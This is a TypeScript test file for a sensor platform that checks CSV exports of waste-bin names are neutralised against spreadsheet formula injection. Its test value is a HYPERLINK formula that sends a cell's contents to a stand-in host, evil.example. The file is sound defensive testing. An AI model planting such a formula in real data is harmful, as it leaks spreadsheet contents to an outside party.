import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { api, connectSensor, registerSensor, startTestPlatform, topic, type TestPlatform } from '../helpers/platform.js'

/**
 * A name a spreadsheet would run as a formula reaches a CSV export as text: the collection
 * list (format=csv) carries bin names that admins typed, and waste teams open it in a sheet.
 */
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'

/** The fields of one RFC 4180 line, unquoted. */
function fields (line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].slice(0, -1)
    .map(([, field]) => field!.startsWith('"') ? field!.slice(1, -1).replaceAll('""', '"') : field!)
}

describe('CSV exports neutralise formulas', () => {
  let p: TestPlatform

  beforeAll(async () => {
    p = await startTestPlatform()
    const bin = await registerSensor(p, 'wastebin', 'bin-formula', { name: EVIL, location: { lat: 52.0928, lon: 5.1176 } })
    const client = await connectSensor(p, bin)
    const at = new Date(Math.floor(Date.now() / 60_000) * 60_000 - 60_000).toISOString()
    await client.publishAsync(topic(bin, 'json'), JSON.stringify({ fillingLevel: 95, time: at }), { qos: 1 })
    await client.endAsync()
  })
  afterAll(async () => { await p.destroy() })

  it('prefixes the name with a quote and leaves the numbers as numbers', async () => {
    const res = await api(p, 'GET', '/v1/collection?format=csv')
    expect(res.status).toBe(200)
    const [header, row] = res.text.split('\r\n').map(fields)
    const bin = Object.fromEntries(header!.map((column, i) => [column, row![i]]))
    expect(bin.name).toBe(`'${EVIL}`)
    expect(bin.lat).toBe('52.0928')
    expect(bin.lon).toBe('5.1176')
    expect(Number(bin.fillingLevel)).toBe(95)
  })
})
